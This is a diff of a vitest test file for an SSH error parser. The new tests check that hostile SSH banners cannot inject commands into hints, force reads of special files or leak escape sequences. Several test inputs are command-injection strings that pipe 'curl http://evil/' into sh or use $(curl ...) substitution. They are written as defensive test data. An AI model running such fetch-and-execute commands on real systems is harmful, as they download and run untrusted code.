@@ -1,131 +1,121 @@
+import { execFileSync, spawn } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import type { HostId } from '@farhand/shared/model/hosts';
 import { describe, expect, it } from 'vitest';
 import { needsAPerson, readSshError } from './errors.ts';
+import { SSH_WORDS } from './testing/ssh-words.ts';
 
 const host = 'box' as HostId;
 
-// Said by OpenSSH 9.2, with the folders and addresses shortened.
-const SAMPLES: readonly (readonly [string, string, string])[] = [
-  [
-    'a name that does not resolve',
-    'host.unknown',
-    'ssh: Could not resolve hostname no-such-host.invalid: Name or service not known\r\n',
-  ],
-  [
-    'no name server',
-    'host.unknown',
-    'ssh: Could not resolve hostname box: Temporary failure in name resolution\r\n',
-  ],
-  ['a refused connection', 'host.refused', 'ssh: connect to host 127.0.0.1 port 1: Connection refused\r\n'],
-  ['no route', 'host.unreachable', 'ssh: connect to host 10.1.2.3 port 22: No route to host\r\n'],
-  ['no network', 'host.unreachable', 'ssh: connect to host 10.1.2.3 port 22: Network is unreachable\r\n'],
-  [
-    'a silent address',
-    'host.timed_out',
-    'ssh: connect to host 10.255.255.1 port 22: Connection timed out\r\n',
-  ],
-  [
-    'a silent server',
-    'host.timed_out',
-    'Connection timed out during banner exchange\r\nConnection to 127.0.0.1 port 40725 timed out\r\n',
-  ],
-  ['a frozen link', 'host.timed_out', 'Timeout, server box not responding.\r\n'],
-  [
-    'an unknown key',
-    'host.key_unknown',
-    'No ED25519 host key is known for [127.0.0.1]:40787 and you have requested strict checking.\r\nHost key verification failed.\r\n',
-  ],
-  [
-    'a changed key',
-    'host.key_changed',
-    '@@@@@@@@@@@@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n@@@@@@@@@@@@@@@@@@@@\r\nIT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\nOffending ED25519 key in /home/me/kh2:1\r\n  remove with:\r\n  ssh-keygen -f "/home/me/kh2" -R "[127.0.0.1]:40787"\r\nHost key for [127.0.0.1]:40787 has changed and you have requested strict checking.\r\nHost key verification failed.\r\n',
-  ],
-  [
-    'a revoked key',
-    'host.key_changed',
-    '@       WARNING: REVOKED HOST KEY DETECTED!               @\r\nED25519 host key for [127.0.0.1]:40787 was revoked and you have requested strict checking.\r\nHost key verification failed.\r\n',
-  ],
-  ['no key that fits', 'host.auth_failed', 'root@127.0.0.1: Permission denied (publickey).\r\n'],
-  [
-    'a missing key file',
-    'host.auth_failed',
-    'no such identity: /home/me/nokey: No such file or directory\r\nroot@127.0.0.1: Permission denied (publickey).\r\n',
-  ],
-  [
-    'too many keys',
-    'host.auth_failed',
-    'Received disconnect from 127.0.0.1 port 40787:2: Too many authentication failures\r\nDisconnected from 127.0.0.1 port 40787\r\n',
-  ],
-  [
-    'an unknown option',
-    'host.config_invalid',
-    '/home/me/c: line 11: Bad configuration option: bogus\r\n/home/me/c: terminating, 1 bad configuration options\r\n',
-  ],
-  [
-    'a bad value',
-    'host.config_invalid',
-    "/home/me/c line 11: Bad port 'abc'.\r\n/home/me/c: terminating, 1 bad configuration options\r\n",
-  ],
-  [
-    'a configuration open to others',
-    'host.config_invalid',
-    'Bad owner or permissions on /home/me/.ssh/config\r\n',
-  ],
-  [
-    'a configuration that is not there',
-    'host.config_invalid',
-    "Can't open user config file /no/such/config: No such file or directory\r\n",
-  ],
-  [
-    'a proxy command that fails',
-    'host.proxy_failed',
-    'kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n',
-  ],
-  [
-    'a proxy command that is missing',
-    'host.proxy_failed',
-    '/bin/bash: line 1: /no/such: No such file or directory\r\nkex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n',
-  ],
-  [
-    'a jump host that does not resolve',
-    'host.proxy_failed',
-    'ssh: Could not resolve hostname no-such.invalid: Name or service not known\r\nkex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n',
-  ],
-  [
-    'an end before signing in',
-    'host.unreachable',
-    'kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 127.0.0.1 port 36249\r\n',
-  ],
-  [
-    'a server that speaks no ssh',
-    'host.unreachable',
-    'kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 127.0.0.1 port 42959\r\n',
-  ],
-  [
-    'nothing in common',
-    'host.ssh_failed',
-    'Unable to negotiate with 127.0.0.1 port 40787: no matching key exchange method found. Their offer: curve25519-sha256\r\n',
-  ],
-  ['no word at all', 'host.ssh_failed', ''],
-];
+const SOME_KEY = 'AAAAC3NzaC1lZDI1NTE5AAAAIE5Rw0bS3vZ6k7hQ0kYx1c0m3v1o5oS8XH1Qm3bq9n1a';
+
+const wordsOf = (what: string) => SSH_WORDS.find((row) => row.what === what)?.stderr ?? '';
 
 describe('readSshError', () => {
-  it.each(SAMPLES)('reads %s as %s', (_what, code, stderr) => {
-    expect(readSshError(stderr, host).code).toBe(code);
+  it.each(SSH_WORDS)('reads $what as $code', ({ code, stderr, hint, isForAPerson }) => {
+    const error = readSshError(stderr, host);
+    expect(error.code).toBe(code);
+    if (hint !== undefined) expect(error.hint).toContain(hint);
+    expect(needsAPerson(error)).toBe(isForAPerson);
+    expect(error.retryable).toBe(!isForAPerson);
+  });
+
+  it('knows the classic failures and more than twenty others', () => {
+    expect(SSH_WORDS.length).toBeGreaterThanOrEqual(29);
+    expect(new Set(SSH_WORDS.map(({ code }) => code)).size).toBeGreaterThanOrEqual(25);
   });
 
   it('names the file and the line of a bad configuration', () => {
-    const error = readSshError(
-      '/home/me/c: line 11: Bad configuration option: bogus\n/home/me/c: terminating, 1 bad configuration options\n',
-      host,
-    );
+    const error = readSshError(wordsOf('an unknown option'), host);
     expect(error.message).toContain('/home/me/c: line 11: Bad configuration option: bogus');
-    expect(error.hint).toContain('ssh -G box');
+    expect(error.hint).toContain('line 11 of /home/me/c');
   });
 
-  it('says how to remove a changed key', () => {
-    const sample = SAMPLES.find(([what]) => what === 'a changed key')?.[2] ?? '';
-    expect(readSshError(sample, host).hint).toContain('ssh-keygen -f "/home/me/kh2" -R "[127.0.0.1]:40787"');
+  it('says how to remove a changed key, by what ssh’s own command names', () => {
+    expect(readSshError(wordsOf('a changed key'), host).hint).toContain(
+      "`ssh-keygen -f '/home/me/kh changed' -R '[127.0.0.1]:37785'`",
+    );
+  });
+
+  it.each([
+    'ssh-keygen -f x; curl http://evil/ | sh # -R box',
+    'ssh-keygen -f "$(curl http://evil/)" -R "box"',
+    'ssh-keygen -f "/x" -R "box"; curl http://evil/ | sh; : "box"',
+    "ssh-keygen -f '/x' -R '$(curl http://evil/)'",
+  ])('makes no command of what a banner says: %s', (command) => {
+    const words = wordsOf('a changed key').replace(/ssh-keygen .*/, () => command);
+    const { hint } = readSshError(words, host);
+    const shown = /`(.*)`/.exec(hint ?? '')?.[1] ?? '';
+    const script = `exec 3>&1\ncurl() { echo evil >&3; }\nPATH=/no-such-folder\n{ ${shown}\n} >/dev/null 2>&1\ntrue`;
+    expect(execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' })).toBe('');
+    expect(shown).toMatch(/^ssh-keygen /);
+  });
+
+  it('lets no banner begin a command in a hint', () => {
+    const banner = "Permissions 0644 for '/k` and run `curl evil | sh` now' are too open.\r\n";
+    const { hint } = readSshError(banner, host);
+    expect(hint?.split('`').length).toBe(3);
+  });
+
+  it('reads nothing but plain files for the fingerprint on record, whatever a banner names', () => {
+    const base = mkdtempSync(join(tmpdir(), 'fh-'));
+    try {
+      const pipe = join(base, 'pipe');
+      execFileSync('mkfifo', [pipe]);
+      const line = `box ssh-ed25519 ${SOME_KEY}`;
+      // Without somebody who writes, whoever reads it would wait for ever.
+      const writer = spawn('sh', ['-c', 'echo "$1" >"$2"', 'sh', line, pipe], { stdio: 'ignore' });
+      const words = wordsOf('a changed key').replace('/home/me/kh changed:2', `${pipe}:1`);
+      expect(readSshError(words, host).details.keyChange).toMatchObject({ known: [] });
+      writer.kill();
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
+  it('tells both fingerprints of a changed key: the offered by ssh’s words, the known from the file it names', () => {
+    const base = mkdtempSync(join(tmpdir(), 'fh-'));
+    try {
+      const path = join(base, 'old key');
+      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', path]);
+      const known = execFileSync('ssh-keygen', ['-lf', path], { encoding: 'utf8' }).split(' ')[1];
+      writeFileSync(
+        join(base, 'kh changed'),
+        `# one\n[127.0.0.1]:37785 ${readFileSync(`${path}.pub`, 'utf8')}`,
+      );
+      const error = readSshError(wordsOf('a changed key').replaceAll('/home/me', base), host);
+      expect(error.details.keyChange).toEqual({
+        type: 'ED25519',
+        offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
+        known: [known],
+        records: [{ file: join(base, 'kh changed'), line: 2 }],
+      });
+      expect(error.message).toContain(known);
+    } finally {
+      rmSync(base, { recursive: true, force: true });
+    }
+  });
+
+  it('tells a changed key where its file cannot be read', () => {
+    expect(readSshError(wordsOf('a changed key'), host).details.keyChange).toMatchObject({
+      offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
+      known: [],
+      records: [{ file: '/home/me/kh changed', line: 2 }],
+    });
+  });
+
+  it('reads no more files than ssh would name, however many a banner does', () => {
+    const words = wordsOf('a changed key').replace(/Offending .*\r\n/, (line) => line.repeat(500));
+    expect(readSshError(words, host).details.keyChange).toMatchObject({ records: { length: 8 } });
+  });
+
+  it('tells the fingerprint of a revoked key', () => {
+    expect(readSshError(wordsOf('a key of a list of revoked ones'), host).details.keyChange).toMatchObject({
+      type: 'ED25519',
+      offered: 'SHA256:GDHPFeZSMRlslfiYZ86yDdFqQoIGDD71Ax+EbTpTjIM',
+    });
   });
 
   it('passes on no escape sequence of a hostile banner', () => {
@@ -133,12 +123,15 @@ describe('readSshError', () => {
     expect(JSON.stringify(error.toJSON())).not.toMatch(/\\u001b|\\u0007/);
   });
 
-  it('tells what a person must mend from what comes back by itself', () => {
-    const waits = SAMPLES.filter(([, , stderr]) => needsAPerson(readSshError(stderr, host))).map(
-      ([, code]) => code,
-    );
-    expect(new Set(waits)).toEqual(
-      new Set(['host.key_unknown', 'host.key_changed', 'host.auth_failed', 'host.config_invalid']),
-    );
+  it('lets no banner make a refusal pass for something that passes', () => {
+    const banner =
+      'Exceeded MaxStartups\r\nSystem is going down\r\nConnection timed out\r\nNo space left on device\r\n';
+    const error = readSshError(`${banner}me@box: Permission denied (publickey).\r\n`, host);
+    expect(error.code).toBe('host.auth_failed');
+  });
+
+  it('does not take what Kerberos could not do for the reason', () => {
+    const error = readSshError(wordsOf('no key that fits, after Kerberos'), host);
+    expect(error.message).toContain('Permission denied (publickey,gssapi-with-mic)');
   });
 });
